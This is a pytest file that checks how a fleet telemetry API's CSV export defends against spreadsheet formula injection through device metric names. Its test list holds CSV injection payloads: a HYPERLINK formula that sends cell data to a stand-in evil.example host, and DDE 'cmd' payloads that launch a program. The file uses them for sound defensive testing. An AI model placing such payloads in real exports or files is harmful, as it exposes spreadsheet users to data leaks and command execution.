"""CSV injection (issue 16, item 10): a box names its metrics, and a metric name that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return must reach an operator's
spreadsheet as text, not as a formula. The box publishes over the real broker, the
ingest stores it, and the export of a real fleet is read back as a spreadsheet would.
"""

import csv
import io

import pytest

from fleet_api.spreadsheet import FORMULA_START, safe_cell
from simpul_wire import Record, TelemetryBatch, encode, utcnow
from testbed.harness import Fleet, wait_until
from testbed.mqtt import Client
from tests.test_ingest import EPOCH

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_a_hostile_metric_name_is_text_in_the_export(fleet: Fleet) -> None:
    password = fleet.register("park-csv")["mqtt"]["password"]
    metrics = {name: -1.5 - i for i, name in enumerate(HOSTILE_NAMES)}
    metrics["pm2_5"] = 12.0
    box = Client(fleet.broker.port, "park-csv", password)
    body = encode(TelemetryBatch(device_id="park-csv", epoch=EPOCH, records=[
        Record(seq=0, ts=utcnow(), metrics=metrics)]))
    assert not box.publish("simpul/v1/park-csv/telemetry", body).is_failure
    box.close()

    def export() -> str:
        with fleet.api() as api:
            resp = api.get("/api/v1/devices/park-csv/telemetry.csv")
        assert resp.status_code == 200, resp.text
        return resp.text if "\n" in resp.text.strip() else ""

    text = wait_until(export, 15, what="the record in the export")
    rows = list(csv.reader(io.StringIO(text)))
    header, values = rows[0], rows[1]
    assert len(rows) == 2 and len(header) == len(values) == 4 + len(metrics)
    for cell in header + values:
        if cell.startswith(FORMULA_START):  # only numbers the fleet wrote itself
            float(cell)
    for name in HOSTILE_NAMES:
        assert "'" + name in header, (name, header)
    # The readings stay numbers, negative ones too.
    by_name = dict(zip(header, values))
    assert by_name["'" + HOSTILE_NAMES[0]] == "-1.5"
    assert by_name["pm2_5"] == "12.0"


@pytest.mark.parametrize("value", [*HOSTILE_NAMES, "=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_gets_a_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["pm2_5", "2026-01-01T00:00:00+00:00", "a=b", " =1", "'x"])
def test_ordinary_text_is_left_as_it_is(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert [safe_cell(v) for v in (-3.5, -7, 0, 1e-05)] == [-3.5, -7, 0, 1e-05]
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"
